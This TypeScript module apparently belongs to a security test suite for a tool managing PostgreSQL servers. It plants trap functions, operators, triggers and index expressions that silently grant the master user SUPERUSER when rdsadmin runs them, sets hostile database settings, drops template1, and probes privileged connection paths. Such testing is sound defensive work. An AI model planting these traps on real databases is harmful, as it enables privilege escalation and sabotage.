import { execFile } from 'node:child_process';
import { statSync } from 'node:fs';
import { promisify } from 'node:util';
import { count } from '../../support/counts.ts';
import type { LocalWorld } from '../../support/local/world.ts';
import { MASTER, PASSWORD, type Target, verifier } from './target.ts';

const exec = promisify(execFile);

/** Code that gives its caller's rights to the master user, for any object that the caller runs. */
const BODY = `BEGIN
  BEGIN EXECUTE 'ALTER ROLE ${MASTER} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN $1;
END`;

function trapsIn(schema: string): string[] {
  return [
    `CREATE FUNCTION ${schema}.trap(anyelement) RETURNS anyelement LANGUAGE plpgsql AS $trap$${BODY}$trap$`,
    ...[
      'quote_ident',
      'quote_literal',
      'lower',
      'length',
      'pg_get_userbyid',
      'to_jsonb',
      'concat',
      'format',
    ].map(
      (name) =>
        `CREATE FUNCTION ${schema}.${name}(text) RETURNS text LANGUAGE plpgsql AS $trap$${BODY}$trap$`,
    ),
    `CREATE FUNCTION ${schema}.same(text, text) RETURNS bool LANGUAGE plpgsql AS $trap$BEGIN
    BEGIN EXECUTE 'ALTER ROLE ${MASTER} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN true; END$trap$`,
    `CREATE OPERATOR ${schema}.= (LEFTARG = text, RIGHTARG = text, FUNCTION = ${schema}.same)`,
    `CREATE OPERATOR ${schema}.~ (LEFTARG = text, RIGHTARG = text, FUNCTION = ${schema}.same)`,
    `CREATE OPERATOR ${schema}.<> (LEFTARG = text, RIGHTARG = text, FUNCTION = ${schema}.same)`,
    `CREATE TABLE ${schema}.pg_authid (oid oid, rolname name)`,
    `CREATE TABLE ${schema}.pg_roles (oid oid, rolname name)`,
    `CREATE TABLE ${schema}.pg_database (oid oid, datname name)`,
    `CREATE TABLE ${schema}.trapped (t text)`,
    `CREATE FUNCTION ${schema}.fixed(text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $trap$${BODY}$trap$`,
    `INSERT INTO ${schema}.trapped VALUES ('x')`,
    `CREATE INDEX ON ${schema}.trapped (${schema}.fixed(t))`,
    `CREATE FUNCTION ${schema}.fired() RETURNS trigger LANGUAGE plpgsql AS $trap$BEGIN
    BEGIN EXECUTE 'ALTER ROLE ${MASTER} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN NEW; END$trap$`,
    `CREATE TRIGGER fired AFTER INSERT ON ${schema}.trapped EXECUTE FUNCTION ${schema}.fired()`,
  ];
}

/**
 * Lays traps where rdsadmin might run into them, and makes rdsadmin do everything that Cornac makes it do.
 */
export async function attackByTraps(target: Target, world: LocalWorld): Promise<void> {
  for (const database of ['app', 'postgres', 'template1']) {
    const client = await target.connect({ database });
    for (const schema of ['public', '"$user"', '"rdsadmin"']) {
      await target.query(`CREATE SCHEMA IF NOT EXISTS ${schema}`, client);
      for (const sql of trapsIn(schema)) await target.query(sql, client);
    }
    await client.end();
    for (const setting of [
      'search_path = public, pg_catalog',
      'role = none',
      `session_authorization = 'postgres'`,
      'default_transaction_read_only = on',
      'statement_timeout = 1',
      'standard_conforming_strings = off',
      `local_preload_libraries = 'trap'`,
    ]) {
      await target.query(`ALTER DATABASE ${database} SET ${setting}`);
    }
  }
  for (const setting of [
    'search_path = public',
    'statement_timeout = 1',
    'default_transaction_read_only = on',
  ]) {
    await target.query(`ALTER ROLE ${MASTER} SET ${setting}`);
  }
  await target.query('ALTER DATABASE template1 IS_TEMPLATE false');
  await target.query('DROP DATABASE template1');
  const { guest } = world;
  await guest.ensureMaster(target.machine, { user: MASTER });
  await target.check('ensure-master');
  await guest.setMasterPassword(target.machine, { user: MASTER, verifier });
  await target.check('a new password');
  await guest.configure(target.machine, { shared_buffers: '16MB' });
  await guest.startPostgres(target.machine);
  await target.check('start');
}

/** Tries every way into the server except the master user's own. */
export async function attackByConnecting(target: Target): Promise<void> {
  const { machine } = target;
  const configs = [
    { database: 'rdsadmin' },
    { database: 'template0' },
    { user: 'rdsadmin' },
    { user: 'rdsadmin', database: 'rdsadmin', password: '' },
    { user: 'rds_superuser' },
    { user: 'pg_monitor' },
    { user: 'rdstopmgr' },
    { replication: 'database' },
    { replication: 'true' },
    { options: '-c session_preload_libraries=x' },
    { options: '-c role=rdsadmin' },
    { options: '-c session_authorization=rdsadmin' },
    { options: '-c lo_compat_privileges=on' },
  ];
  for (const config of configs) {
    count('tried');
    const client = await target.connect(config).catch(() => undefined);
    if (client === undefined) continue;
    const { rows } = await client.query('SELECT session_user AS session, current_user AS current');
    await client.end();
    target.accept(`a connection with ${JSON.stringify(config)}: ${JSON.stringify(rows)}`);
  }
  const [socketDir = ''] = await target.outside('SHOW unix_socket_directories;');
  const { uid, gid, mode } = statSync(socketDir);
  if ((mode & 0o077) !== 0) target.accept('the socket is open to others');
  const isRoot = process.getuid?.() === 0;
  for (const user of [MASTER, 'rds_superuser', 'attack_helper', ...(isRoot ? ['rdsadmin'] : [])]) {
    count('tried');
    // As the machine's user, except for rdsadmin: the machine's user may connect as rdsadmin.
    const as = isRoot && user !== 'rdsadmin' ? { uid, gid } : {};
    await exec('psql', ['-XqAt', '-h', socketDir, '-U', user, '-d', 'app', '-c', 'SELECT 1'], {
      ...as,
      env: { PATH: process.env.PATH, PGPASSWORD: PASSWORD },
    }).then(
      () => target.accept(`the socket lets ${user} in`),
      () => {},
    );
  }
  await target.check(`connections to ${machine.name}`);
}
